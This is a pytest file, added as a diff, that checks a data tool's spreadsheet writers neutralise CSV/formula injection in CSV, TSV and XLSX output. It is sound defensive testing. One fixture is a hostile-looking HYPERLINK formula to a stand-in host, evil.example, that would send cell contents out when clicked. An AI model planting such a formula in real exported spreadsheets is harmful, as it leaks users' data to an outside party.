@@ -1,0 +1,163 @@
+"""No released spreadsheet holds a live formula (issue 11, items 2 and 3).
+
+core.spreadsheet_safety holds the one rule; core.io's writers apply it. The expected
+values below are written out by hand from the OWASP CSV-injection rule: a text cell that
+begins with =, +, -, @, a tab or a carriage return and is not a plain number.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import time
+import zipfile
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from core.io import read_table, table_to_bytes, write_table
+from core.recipe import Recipe, RecipeResult
+from core.report import build_report, report_to_markdown
+from core.spreadsheet_safety import (
+    formula_like,
+    formula_like_counts,
+    formula_like_summary,
+    neutralise_for_csv,
+)
+
+EVIL_HEADER = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+def _table() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            EVIL_HEADER: ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)", "plain", None],
+            "note": ["\tcmd", "\r=2", "-1e5", "+3.2", "#N/A", "a=b"],
+            "amount": [-5, -1, 3, 4, 5, 6],
+            "ratio": [-0.5, np.nan, 1.5, -2.0, 0.0, 1e5],
+            "mixed": pd.Series(["=x", 7, None, "-", 2.5, True], dtype=object),
+            "category": pd.Categorical(["-a", "b", "-a", "b", "b", "b"]),
+        }
+    )
+
+
+def test_rule_flags_formula_text_and_spares_numbers():
+    values = pd.Series(["=1", "+1", "-1", "@a", "\tx", "\rx", "-5", "+3.2", "-1e5", "- 5", "a=1"])
+    expected = [True, False, False, True, True, True, False, False, False, True, False]
+    assert formula_like(values).tolist() == expected
+    assert not formula_like(pd.Series([-5, -1, 3])).any()  # numbers are never text
+    assert not formula_like(pd.Series([-0.5, np.nan])).any()
+    assert not formula_like(pd.Series([1, 2], dtype=object)).any()  # no text at all
+    assert formula_like(pd.Series(["-٣"])).tolist() == [True]  # not an ASCII number
+
+
+def test_counts_name_the_columns_and_include_the_header():
+    # By hand: EVIL_HEADER: header + '=1+1', '+65 9123 4567', '@SUM(A1:A9)' = 4;
+    # note: '\tcmd', '\r=2' = 2; mixed: '=x', '-' = 2; category: '-a' twice = 2.
+    counts = formula_like_counts(_table())
+    assert counts == {EVIL_HEADER: 4, "note": 2, "mixed": 2, "category": 2}
+
+
+def test_csv_prefixes_formula_text_with_a_quote_and_leaves_numbers():
+    table = _table()
+    before = table.copy()
+    text = table_to_bytes(table, "csv").decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    pd.testing.assert_frame_equal(table, before)  # the caller's table is not changed
+    assert rows[0] == ["'" + EVIL_HEADER, "note", "amount", "ratio", "mixed", "category"]
+    column = [row[0] for row in rows[1:]]
+    assert column == ["'=1+1", "-5", "'+65 9123 4567", "'@SUM(A1:A9)", "plain", ""]
+    assert [row[1] for row in rows[1:]] == ["'\tcmd", "'\r=2", "-1e5", "+3.2", "#N/A", "a=b"]
+    assert [row[2] for row in rows[1:]] == ["-5", "-1", "3", "4", "5", "6"]
+    assert [row[3] for row in rows[1:]] == ["-0.5", "", "1.5", "-2.0", "0.0", "100000.0"]
+    assert [row[4] for row in rows[1:]] == ["'=x", "7", "", "'-", "2.5", "True"]
+    assert [row[5] for row in rows[1:]] == ["'-a", "b", "'-a", "b", "b", "b"]
+
+
+def test_tsv_follows_the_same_rule(tmp_path):
+    path = write_table(pd.DataFrame({"@a": ["=1", "x"]}), tmp_path / "out.tsv")
+    assert path.read_text(encoding="utf-8") == "'@a\n'=1\nx\n"
+
+
+def test_no_xlsx_cell_is_a_formula_and_values_are_unchanged(tmp_path):
+    table = _table().drop(columns="note")  # a carriage return does not survive XML
+    path = write_table(table, tmp_path / "out.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
+    sheet = openpyxl.load_workbook(path).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    assert header == list(table.columns)
+    first = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert first == ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)", "plain", None]
+    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
+        -5, -1, 3, 4, 5, 6
+    ]  # fmt: skip
+    # Excel's own "typed with a leading quote" mark keeps the text text when edited.
+    quoted = {cell.coordinate for cell in cells if cell.quotePrefix}
+    assert quoted == {"A1", "A2", "A4", "A5", "D2", "D5", "E2", "E4"}
+    back = read_table(path)
+    assert back[EVIL_HEADER].tolist()[:4] == ["=1+1", "-5", "+65 9123 4567", "@SUM(A1:A9)"]
+
+
+def test_xlsx_error_words_stay_text():
+    data = table_to_bytes(pd.DataFrame({"code": ["#N/A", "#REF!", "ok"]}), "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert [cell.data_type for (cell,) in sheet.iter_rows(min_row=2)] == ["s", "s", "s"]
+
+
+def test_xlsx_is_byte_identical_for_the_same_table(tmp_path):
+    table = _table().drop(columns="note")
+    first = write_table(table, tmp_path / "first.xlsx").read_bytes()
+    time.sleep(2.1)  # zip entry times have a 2-second resolution
+    second = write_table(table, tmp_path / "second.xlsx").read_bytes()
+    assert first == second
+
+
+def test_xlsx_refuses_control_characters_with_the_column_name():
+    with pytest.raises(Exception, match="Column 'bad' holds a control character.*row 2"):
+        table_to_bytes(pd.DataFrame({"bad": ["ok", "a\x01b"]}), "xlsx")
+
+
+def test_parquet_keeps_values_as_they_are():
+    data = table_to_bytes(pd.DataFrame({"=a": ["=1+1"]}), "parquet")
+    assert pd.read_parquet(io.BytesIO(data)).to_dict("list") == {"=a": ["=1+1"]}
+
+
+def test_neutralise_for_csv_keeps_the_index_and_other_columns():
+    table = pd.DataFrame({"a": ["=1", "x"], "b": [1, 2]}, index=[5, 5])
+    out = neutralise_for_csv(table)
+    assert out["a"].tolist() == ["'=1", "x"] and out["b"].tolist() == [1, 2]
+    assert out.index.tolist() == [5, 5]
+
+
+def test_report_says_which_cells_were_neutralised():
+    table = _table()
+    recipe = Recipe()
+    result = RecipeResult(table, {}, {}, (), 1)
+    report = build_report(table, result, recipe)
+    safety = report.to_dict()["spreadsheet_safety"]
+    assert safety["formula_like_cells"] == {EVIL_HEADER: 4, "note": 2, "mixed": 2, "category": 2}
+    assert safety["csv_prefix"] == "'"
+    markdown = report_to_markdown(report)
+    assert "10 text cell(s) or column name(s) begin with =, +, -, @" in markdown
+    assert "'note' (2)" in markdown
+
+
+def test_summary_when_nothing_looks_like_a_formula():
+    assert formula_like_summary({}).startswith("No cell or column name")
+
+
+def test_a_carriage_return_inside_a_value_cannot_start_a_new_csv_row():
+    # Unquoted, "ok\r=cmd" is read as two rows, the second beginning with a live formula.
+    table = pd.DataFrame({"a": ["ok\r=HYPERLINK(1)", "x"], "n": [1, 2]})
+    text = table_to_bytes(table, "csv").decode("utf-8")
+    assert text.splitlines()[1:] != ["=HYPERLINK(1)"]
+    assert len(text.split("\r")) == 2 and '"ok\r=HYPERLINK(1)"' in text
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == [["a", "n"], ["ok\r=HYPERLINK(1)", "1"], ["x", "2"]]
+    assert read_table(text.encode("utf-8"), name="t.csv")["a"].tolist() == table["a"].tolist()
